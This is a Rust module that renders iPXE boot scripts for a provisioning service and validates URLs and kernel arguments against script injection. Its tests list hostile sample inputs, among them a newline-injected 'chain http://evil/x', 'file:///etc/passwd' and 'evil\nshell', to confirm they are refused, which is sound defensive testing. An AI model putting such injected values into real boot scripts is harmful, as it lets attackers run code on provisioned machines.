//! iPXE scripts: which script a machine gets (install, boot from local disk,
//! wait) and rendering it with askama from `templates/ipxe/`. Pure: callers
//! pass everything in. Every value that reaches a script is checked first: a
//! newline, a space or a `$` in a URL or kernel argument would let it inject
//! iPXE commands or expand iPXE settings.

use askama::Template;

use crate::api::validate::is_dns_subdomain;

/// Characters allowed in a kernel argument or a URL inside a script.
fn safe_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || "._,:/=+@%?&~-*![]".contains(c)
}

/// What a checked value is, as its error messages name it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ValueKind {
    KernelArg,
    Url,
}

impl std::fmt::Display for ValueKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            ValueKind::KernelArg => "kernel argument",
            ValueKind::Url => "URL",
        })
    }
}

/// Why a kernel argument or URL may not go into a script.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum UnsafeValue {
    #[error("empty {0}")]
    Empty(ValueKind),
    #[error("{0} longer than 1024 bytes")]
    TooLong(ValueKind),
    #[error("{kind} contains {found:?}; allowed are letters, digits and ._,:/=+@%?&~-*![]")]
    Character { kind: ValueKind, found: char },
    #[error("{0} contains \"&&\" (an iPXE operator)")]
    Operator(ValueKind),
    #[error("URL must start with http:// or https://")]
    Scheme,
}

/// Check one kernel argument: printable, no whitespace, no iPXE specials.
pub fn check_kernel_arg(a: &str) -> Result<(), UnsafeValue> {
    check_value(ValueKind::KernelArg, a)
}

/// Check a URL that is written into a script or a kernel command line.
pub fn check_url(u: &str) -> Result<(), UnsafeValue> {
    if !(u.starts_with("http://") || u.starts_with("https://")) {
        return Err(UnsafeValue::Scheme);
    }
    check_value(ValueKind::Url, u)
}

fn check_value(kind: ValueKind, a: &str) -> Result<(), UnsafeValue> {
    if a.is_empty() {
        return Err(UnsafeValue::Empty(kind));
    }
    if a.len() > 1024 {
        return Err(UnsafeValue::TooLong(kind));
    }
    if let Some(found) = a.chars().find(|c| !safe_char(*c)) {
        return Err(UnsafeValue::Character { kind, found });
    }
    if a.contains("&&") {
        return Err(UnsafeValue::Operator(kind));
    }
    Ok(())
}

/// Whether a query parameter like `arch`/`platform` is a plain short word.
pub fn is_word(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 32
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
}

/// A machine name as shown in a script (names are DNS subdomains; anything
/// else is shown as `machine`).
pub(super) fn shown_name(name: &str) -> &str {
    if is_dns_subdomain(name) {
        name
    } else {
        "machine"
    }
}

/// Firmware platform as iPXE reports it in `${platform}`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Platform {
    Pcbios,
    Efi,
    Unknown,
}

impl Platform {
    pub fn parse(s: Option<&str>) -> Platform {
        match s {
            Some("pcbios") => Platform::Pcbios,
            Some("efi") => Platform::Efi,
            _ => Platform::Unknown,
        }
    }

    /// From iPXE's `${platform}`, else from the DHCP option-93 code that
    /// metalherd's DHCP puts in `arch` (0 = BIOS; 6, 7, 9, 10, 11 = UEFI).
    pub fn from_query(platform: Option<&str>, arch: Option<&str>) -> Platform {
        match (Platform::parse(platform), arch) {
            (Platform::Unknown, Some("0")) => Platform::Pcbios,
            (Platform::Unknown, Some("6" | "7" | "9" | "10" | "11")) => Platform::Efi,
            (p, _) => p,
        }
    }
}

#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum ScriptError {
    #[error("unsafe value for {field}: {reason}")]
    Unsafe {
        field: &'static str,
        reason: UnsafeValue,
    },
    #[error("rendering the script: {0}")]
    Render(#[from] askama::Error),
    /// GRUB reads its files over TFTP by absolute path.
    #[error("{field} must be an absolute TFTP path for GRUB: {path}")]
    GrubPath { field: &'static str, path: String },
}

pub(super) fn unsafe_value(field: &'static str) -> impl FnOnce(UnsafeValue) -> ScriptError {
    move |reason| ScriptError::Unsafe { field, reason }
}

#[derive(Template)]
#[template(path = "ipxe/chain.ipxe", escape = "none")]
struct ChainTemplate<'a> {
    base_url: &'a str,
    wait_seconds: u32,
}

/// The script for a request without a MAC: ask again with iPXE's own MAC
/// and platform filled in (DHCP hands out `/boot.ipxe` without them).
pub fn render_chain(base_url: &str, wait_seconds: u32) -> Result<String, ScriptError> {
    check_url(base_url).map_err(unsafe_value("baseUrl"))?;
    Ok(ChainTemplate {
        base_url,
        wait_seconds,
    }
    .render()?)
}

/// Everything an install script needs; all of it is checked before use.
#[derive(Clone, Debug)]
pub struct InstallParams<'a> {
    pub machine: &'a str,
    pub boot_id: &'a str,
    pub purpose: &'a str,
    pub os: &'a str,
    pub version: &'a str,
    pub kernel_url: &'a str,
    pub initrd_url: &'a str,
    pub kernel_args: &'a [String],
    /// Where to go if the boot fails (the chain URL of this machine).
    pub retry_url: &'a str,
    pub wait_seconds: u32,
}

#[derive(Template)]
#[template(path = "ipxe/install.ipxe", escape = "none")]
struct InstallTemplate<'a> {
    machine: &'a str,
    boot_id: &'a str,
    purpose: &'a str,
    os: &'a str,
    version: &'a str,
    kernel_url: &'a str,
    initrd_url: &'a str,
    kernel_args: String,
    retry_url: &'a str,
    wait_seconds: u32,
}

pub fn render_install(p: &InstallParams<'_>) -> Result<String, ScriptError> {
    check_install(p)?;
    Ok(InstallTemplate {
        machine: shown_name(p.machine),
        boot_id: p.boot_id,
        purpose: p.purpose,
        os: p.os,
        version: p.version,
        kernel_url: p.kernel_url,
        initrd_url: p.initrd_url,
        kernel_args: p.kernel_args.join(" "),
        retry_url: p.retry_url,
        wait_seconds: p.wait_seconds,
    }
    .render()?)
}

/// Every value of an install boot checked, for any loader's script.
pub(super) fn check_install(p: &InstallParams<'_>) -> Result<(), ScriptError> {
    check_url(p.kernel_url).map_err(unsafe_value("kernel URL"))?;
    check_url(p.initrd_url).map_err(unsafe_value("initrd URL"))?;
    check_url(p.retry_url).map_err(unsafe_value("retry URL"))?;
    for a in p.kernel_args {
        check_kernel_arg(a).map_err(unsafe_value("kernelArgs"))?;
    }
    for (field, v) in [
        ("boot id", p.boot_id),
        ("purpose", p.purpose),
        ("image os", p.os),
        ("image version", p.version),
    ] {
        check_kernel_arg(v).map_err(unsafe_value(field))?;
    }
    Ok(())
}

#[derive(Template)]
#[template(path = "ipxe/local.ipxe", escape = "none")]
struct LocalTemplate<'a> {
    machine: &'a str,
    bios: bool,
}

/// Boot from the local disk: `sanboot` the first BIOS disk, or hand back to
/// UEFI (which then tries its next boot option, the disk).
pub fn render_local(machine: &str, platform: Platform) -> Result<String, ScriptError> {
    Ok(LocalTemplate {
        machine: shown_name(machine),
        bios: platform == Platform::Pcbios,
    }
    .render()?)
}

/// Why a machine gets no OS.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum WaitReason {
    /// Unknown MAC: recorded as a DiscoveredMachine for adoption.
    Unknown,
    /// Known, but no boot is in progress for it.
    Idle,
}

impl WaitReason {
    /// The reason word and the sentence a wait script shows.
    pub(super) fn words(self) -> (&'static str, &'static str) {
        match self {
            WaitReason::Unknown => (
                "discovery",
                "this machine is not known to metalherd, it was recorded for adoption",
            ),
            WaitReason::Idle => ("idle", "no boot is scheduled for this machine"),
        }
    }
}

#[derive(Template)]
#[template(path = "ipxe/wait.ipxe", escape = "none")]
struct WaitTemplate<'a> {
    reason: &'a str,
    mac: &'a str,
    message: &'a str,
    wait_seconds: u32,
}

/// The script for a machine that gets no OS: say why, wait, exit.
pub fn render_wait(
    mac: &[u8; 6],
    why: WaitReason,
    wait_seconds: u32,
) -> Result<String, ScriptError> {
    let (reason, message) = why.words();
    Ok(WaitTemplate {
        reason,
        mac: &crate::api::MacAddr(*mac).to_string(),
        message,
        wait_seconds,
    }
    .render()?)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args() -> Vec<String> {
        vec![
            "console=ttyS0,115200n8".into(),
            "ignition.firstboot".into(),
            "ignition.platform.id=metal".into(),
            "ignition.config.url=http://10.77.0.1:8080/ignition?mac=52-54-00-12-34-56&token=0123abcd".into(),
        ]
    }

    fn install() -> InstallParams<'static> {
        InstallParams {
            machine: "rack1-u07",
            boot_id: "b-0001",
            purpose: "install",
            os: "flatcar",
            version: "4230.2.3",
            kernel_url: "http://10.77.0.1:8080/images/aa/kernel?mac=52-54-00-12-34-56",
            initrd_url: "http://10.77.0.1:8080/images/bb/initrd?mac=52-54-00-12-34-56",
            kernel_args: &[],
            retry_url: "http://10.77.0.1:8080/boot.ipxe?mac=52-54-00-12-34-56",
            wait_seconds: 10,
        }
    }

    #[test]
    fn snapshot_chain() {
        insta::assert_snapshot!(render_chain("http://10.77.0.1:8080", 10).unwrap());
    }

    #[test]
    fn snapshot_install() {
        let a = args();
        let mut p = install();
        p.kernel_args = &a;
        insta::assert_snapshot!(render_install(&p).unwrap());
    }

    #[test]
    fn snapshot_local_bios_and_efi() {
        insta::assert_snapshot!(
            "local_bios",
            render_local("rack1-u07", Platform::Pcbios).unwrap()
        );
        insta::assert_snapshot!(
            "local_efi",
            render_local("rack1-u07", Platform::Efi).unwrap()
        );
    }

    #[test]
    fn snapshot_wait() {
        let mac = [0x52, 0x54, 0, 0xaa, 0xbb, 0xcc];
        insta::assert_snapshot!(
            "discovery",
            render_wait(&mac, WaitReason::Unknown, 30).unwrap()
        );
        insta::assert_snapshot!("idle", render_wait(&mac, WaitReason::Idle, 30).unwrap());
    }

    #[test]
    fn injection_is_refused() {
        for bad in [
            "a\nchain http://evil/x",
            "a b",
            "${net0/mac}",
            "x\"y",
            "a&&b",
            "a\rb",
            "a;b",
            "a|b",
            "",
        ] {
            assert!(check_kernel_arg(bad).is_err(), "{bad:?} accepted");
            let a = vec![bad.to_string()];
            let mut p = install();
            p.kernel_args = &a;
            assert!(render_install(&p).is_err(), "{bad:?} rendered");
        }
        let mut p = install();
        p.kernel_url = "http://x/k\nshell";
        assert!(render_install(&p).is_err());
        p.kernel_url = "file:///etc/passwd";
        assert!(render_install(&p).is_err());
        let mut p = install();
        p.version = "1.0\nshell";
        assert!(render_install(&p).is_err());
        // A name that is not a DNS name is never written out.
        let mut p = install();
        p.machine = "evil\nshell";
        let s = render_install(&p).unwrap();
        assert!(!s.contains("evil"));
    }

    #[test]
    fn refusals_name_the_value_kind() {
        let e = |r: Result<(), UnsafeValue>| r.unwrap_err().to_string();
        assert_eq!(e(check_kernel_arg("")), "empty kernel argument");
        assert_eq!(
            e(check_kernel_arg("a&&b")),
            "kernel argument contains \"&&\" (an iPXE operator)"
        );
        assert_eq!(
            e(check_url("http://x/a b")),
            "URL contains ' '; allowed are letters, digits and ._,:/=+@%?&~-*![]"
        );
        assert_eq!(
            e(check_url("ftp://x/")),
            "URL must start with http:// or https://"
        );
        assert_eq!(
            e(check_url(&format!("http://{}", "x".repeat(1024)))),
            "URL longer than 1024 bytes"
        );
    }

    #[test]
    fn words_and_platforms() {
        assert!(is_word("x86_64"));
        assert!(!is_word("x86 64"));
        assert!(!is_word(""));
        assert_eq!(Platform::parse(Some("efi")), Platform::Efi);
        assert_eq!(Platform::parse(Some("pcbios")), Platform::Pcbios);
        assert_eq!(Platform::parse(None), Platform::Unknown);
        assert_eq!(Platform::from_query(None, Some("0")), Platform::Pcbios);
        assert_eq!(Platform::from_query(None, Some("7")), Platform::Efi);
        assert_eq!(Platform::from_query(Some("efi"), Some("0")), Platform::Efi);
        assert_eq!(
            Platform::from_query(None, Some("x86_64")),
            Platform::Unknown
        );
        assert_eq!(
            crate::api::MacAddr([0x52, 0x54, 0, 1, 2, 0xff]).hyphenated(),
            "52-54-00-01-02-ff"
        );
    }

    proptest::proptest! {
        #[test]
        fn accepted_args_never_break_lines(s in "\\PC{0,40}") {
            if check_kernel_arg(&s).is_ok() {
                proptest::prop_assert!(!s.chars().any(|c| c.is_whitespace() || c == '$'));
            }
        }
    }
}
